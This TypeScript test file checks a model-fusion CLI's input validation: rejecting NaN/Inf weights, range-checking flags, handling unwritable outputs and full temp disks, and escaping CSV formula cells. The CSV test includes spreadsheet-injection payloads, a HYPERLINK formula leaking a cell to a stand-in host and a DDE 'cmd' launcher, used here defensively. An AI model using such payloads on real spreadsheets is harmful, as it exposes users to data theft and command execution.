// Issue 25, items 10, 11 and 13: NaN/Inf weights in a parent are refused before any work, naming the file and
// the initializer; every numeric flag and recipe field has a range (exit 2 before any work outside it); an
// unwritable -o is the same usage error in every command; a full temp folder while spilling a dataset is an IO
// error naming the temp file; CSV cells cannot be formulas.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { engine } from '../../worker/api';
import { OtfuseError } from '../../worker/errors';
import { loadModel } from '../../worker/onnx/model';
import { openRegular } from '../../worker/onnx/files';
import { FileSlice, InflatedSource, SPILL_IN_MEMORY_BYTES } from '../../worker/data/source';
import { validateRecipe } from '../../worker/fusion/recipe';
import { csvTable } from '../../worker/io/csv';
import { ROOT, VIT, runCli, tempDir } from '../helpers';
import { hfDir } from '../hf/helpers';
import { hasStackTrace } from './helpers';

const A = path.join(VIT, 'vit48_s10.onnx');
const B = path.join(VIT, 'vit48_s11.onnx');
const CALIB = path.join(VIT, 'calib200.npz');

/** A copy of `src` with one value of its first 2-D initializer set to `value`; returns the file and that name. */
function poisoned(dir: string, src: string, value: number, name: string): { file: string; tensor: string } {
  const m = loadModel(src);
  const tensor = m.initializerNames().find((n) => m.getInitializer(n).dims.length === 2)!;
  const data = Float32Array.from(m.getInitializer(tensor).data);
  data[7] = value;
  m.setInitializer(tensor, data);
  const file = path.join(dir, name);
  m.save(file);
  return { file, tensor };
}

test('a parent with a NaN weight: fuse refuses before any work, naming the file and the initializer; nothing written', () => {
  const dir = tempDir();
  const { file, tensor } = poisoned(dir, B, NaN, 'nan.onnx');
  const out = path.join(dir, 'fused.onnx');
  const r = runCli(['fuse', A, file, '--data', CALIB, '--samples', '20', '-o', out, '--runs-dir', path.join(dir, 'runs'), '--provider', 'cpu'], { cwd: dir });
  assert.equal(r.code, 1, r.stderr);
  assert.ok(r.stderr.includes(file) && r.stderr.includes(`'${tensor}'`) && /NaN/.test(r.stderr), r.stderr);
  assert.equal(hasStackTrace(r.stderr), false);
  assert.doesNotMatch(r.stdout, /accuracy/);
  assert.equal(fs.existsSync(out), false);
  assert.equal(fs.existsSync(path.join(dir, 'runs')) && fs.readdirSync(path.join(dir, 'runs')).length > 0, false, 'no run folder');
});

test('a fine-tune with a NaN weight: merge refuses it before any work, naming the initializer; nothing written', async () => {
  const dir = tempDir();
  const { file, tensor } = poisoned(dir, path.join(ROOT, 'test', 'fixtures', 'merge', 'vit48_s10_ft_b.onnx'), NaN, 'ft-nan.onnx');
  const out = path.join(dir, 'merged.onnx');
  await assert.rejects(
    engine.merge({
      models: [path.join(ROOT, 'test', 'fixtures', 'merge', 'vit48_s10_ft_a.onnx'), file],
      method: 'linear',
      output: out,
      runsDir: path.join(dir, 'runs'),
    }),
    (e: unknown) => e instanceof OtfuseError && e.code === 'BAD_MODEL' && e.file === file && e.message.includes(`'${tensor}'`),
  );
  assert.deepEqual(fs.readdirSync(dir), ['ft-nan.onnx']);
});

test('a model with an Inf weight: finetune refuses it (BAD_MODEL naming the initializer) and writes nothing', async () => {
  const dir = tempDir();
  const { file, tensor } = poisoned(dir, A, -Infinity, 'inf.onnx');
  const out = path.join(dir, 'out.onnx');
  await assert.rejects(
    engine.finetune({ model: file, data: CALIB, output: out, maxSteps: 1, provider: 'cpu' }),
    (e: unknown) => e instanceof OtfuseError && e.code === 'BAD_MODEL' && e.file === file && e.message.includes(`'${tensor}'`),
  );
  // The same model as a distillation teacher.
  await assert.rejects(
    engine.finetune({ model: A, data: CALIB, output: out, maxSteps: 1, provider: 'cpu', teachers: [file] }),
    (e: unknown) => e instanceof OtfuseError && e.code === 'BAD_MODEL' && e.file === file && e.message.includes(`'${tensor}'`),
  );
  assert.deepEqual(fs.readdirSync(dir), ['inf.onnx']);
});

// Recipe flags are checked against the recipe registry (the message names the recipe field).
const rangeCases: [string, string[], RegExp?][] = [
  ['--autotune-budget -5', ['fuse', A, B, '--data', CALIB, '--autotune-budget', '-5']],
  ['--token-budget 1', ['fuse', A, B, '--data', CALIB, '--token-budget', '1'], /field 'tokenBudget' must be 0 or in \[256, 2147483647\]/],
  ['--samples 1e12', ['fuse', A, B, '--data', CALIB, '--samples', '1e12'], /field 'samples' must be ≤ 1000000/],
  ['--reg 1e30', ['fuse', A, B, '--data', CALIB, '--reg', '1e30'], /field 'reg' must be ≤ 100/],
  ['--refit-ridge 1e300', ['fuse', A, B, '--data', CALIB, '--refit-ridge', '1e300'], /field 'refitRidge' must be ≤ 1000000/],
  ['--kd-temp 1e30', ['finetune', A, '--data', CALIB, '-o', 'x.onnx', '--teacher', B, '--kd-temp', '1e30']],
  ['--kd-alpha 2', ['finetune', A, '--data', CALIB, '-o', 'x.onnx', '--teacher', B, '--kd-alpha', '2']],
  ['--max-length 1e9', ['eval', hfDir('bert-tiny-cls-a'), '--data', CALIB, '--max-length', '1000000000']],
  ['--seeds 0', ['demo', '--seeds', '0']],
  ['--pair bogus', ['demo', '--pair', 'bogus'], /--pair must be one of noniid, converged \(got 'bogus'\)/],
  ['--anchor-weight 1.5', ['fuse', A, B, '--data', CALIB, '--anchor-weight', '1.5'], /field 'anchorWeight' must be ≤ 1/],
];

for (const [name, args, message] of rangeCases) {
  test(`outside its documented range, exit 2 before any work: ${name}`, () => {
    const dir = tempDir();
    const r = runCli([...args, '--provider', 'cpu'], { cwd: dir });
    assert.equal(r.code, 2, `${name}: exit ${r.code}\n${r.stderr}`);
    assert.match(r.stderr, message ?? new RegExp(`otfuse: error: ${name.split(' ')[0]} must be`));
    assert.equal(hasStackTrace(r.stderr), false);
    assert.deepEqual(fs.readdirSync(dir), [], 'nothing written');
  });
}

test('recipe fields: ranges from the registry (file and engine), tokenBudget is 0 (no cap) or ≥ 256', async () => {
  for (const bad of [{ tokenBudget: 1 }, { tokenBudget: 255 }, { samples: 1e12 }, { reg: 1e30 }, { refitRidge: 1e300 }, { tokenSeed: 2 ** 40 }]) {
    assert.throws(
      () => validateRecipe(bad),
      (e: unknown) => e instanceof OtfuseError && e.code === 'BAD_USAGE' && e.message.includes(Object.keys(bad)[0]),
    );
  }
  for (const good of [{ tokenBudget: 0 }, { tokenBudget: 256 }, { tokenBudget: 8192 }, { reg: 0.08 }]) validateRecipe(good);
  const dir = tempDir();
  const recipe = path.join(dir, 'r.json');
  fs.writeFileSync(recipe, JSON.stringify({ tokenBudget: 1 }));
  const r = runCli(['fuse', A, B, '--data', CALIB, '--recipe', recipe], { cwd: dir });
  assert.equal(r.code, 2, r.stderr);
  assert.match(r.stderr, /tokenBudget' must be 0 or in \[256, /);
  // The engine API (the extension's path) checks the same ranges.
  await assert.rejects(
    engine.fuse({ models: [A, B], data: CALIB, autotune: { budgetSeconds: -5 } }),
    (e: unknown) => e instanceof OtfuseError && e.code === 'BAD_USAGE' && /autotune-budget/.test(e.message),
  );
  await assert.rejects(
    engine.finetune({ model: A, data: CALIB, output: path.join(dir, 'x.onnx'), teachers: [B], kdTemp: 1e30 }),
    (e: unknown) => e instanceof OtfuseError && e.code === 'BAD_USAGE' && /kd-temp/.test(e.message),
  );
  assert.deepEqual(fs.readdirSync(dir), ['r.json']);
});

test('an unwritable -o is the same usage error (exit 2, naming it) in fuse, finetune, import and export', () => {
  const dir = tempDir();
  const file = path.join(dir, 'plain-file');
  fs.writeFileSync(file, 'x');
  const out = (name: string) => path.join(file, name); // a path under a regular file: never writable
  const cases = [
    ['fuse', A, B, '--data', CALIB, '--samples', '20', '--no-eval', '-o', out('f.onnx'), '--runs-dir', path.join(dir, 'runs')],
    ['finetune', A, '--data', CALIB, '--max-steps', '1', '-o', out('t.onnx')],
    ['import', hfDir('bert-tiny-cls-a'), '-o', out('i.onnx')],
    ['export', hfDir('bert-tiny-cls-b'), '--like', hfDir('bert-tiny-cls-a'), '-o', out('e')],
  ];
  for (const args of cases) {
    const r = runCli([...args, '--json'], { cwd: dir });
    assert.equal(r.code, 2, `${args[0]}: ${r.stderr}`);
    const err = JSON.parse(r.stdout).error;
    assert.equal(err.code, 'BAD_USAGE', args[0]);
    assert.match(err.message, /cannot write the output (model|folder): .*plain-file is not a folder/, args[0]);
  }
  assert.deepEqual(fs.readdirSync(dir), ['plain-file']);
});

test('a full temp folder while spilling a compressed dataset is an IO error naming the temp file (not BAD_DATA)', () => {
  const dir = tempDir();
  const size = SPILL_IN_MEMORY_BYTES + 4096;
  const file = path.join(dir, 'big.gz');
  fs.writeFileSync(file, zlib.gzipSync(Buffer.alloc(size), { level: 1 }));
  const slice = new FileSlice(openRegular(file, 'BAD_DATA'), 0, fs.statSync(file).size, 'images', true);
  const src = new InflatedSource(slice, 'gzip', size, 'images', file);
  src.read(size - 16, 16); // forward to the end: the next read goes back and spills
  const real = fs.writeSync;
  (fs as { writeSync: unknown }).writeSync = () => {
    throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
  };
  try {
    assert.throws(
      () => src.read(0, 16),
      (e: unknown) =>
        e instanceof OtfuseError &&
        e.code === 'IO' &&
        /cannot write the temp file .*otfuse-spill-.*big\.gz.*no space left on the device \(ENOSPC\); free space in .* or set TMPDIR/.test(e.message) &&
        (e.file ?? '').includes('otfuse-spill-'),
    );
  } finally {
    (fs as { writeSync: unknown }).writeSync = real;
    src.close();
  }
});

test('CSV cells that a spreadsheet would run as formulas are neutralised; numbers stay numbers', () => {
  const csv = csvTable(
    ['model', 'accuracy_percent'],
    [
      ['=HYPERLINK("http://x/?"&A1,"click")', 81.25],
      ['+cmd|" /C calc"!A0', -0.5],
      ['-2+3', '-0.25'],
      ['@SUM(A1:A9)', 1e-7],
      ['\tTAB', 0],
      ['fused.onnx', 50],
    ],
  );
  assert.equal(
    csv,
    [
      'model,accuracy_percent',
      `"'=HYPERLINK(""http://x/?""&A1,""click"")",81.25`,
      `"'+cmd|"" /C calc""!A0",-0.5`,
      `'-2+3,-0.25`,
      `'@SUM(A1:A9),1e-7`,
      `'\tTAB,0`,
      'fused.onnx,50',
      '',
    ].join('\n'),
  );
});
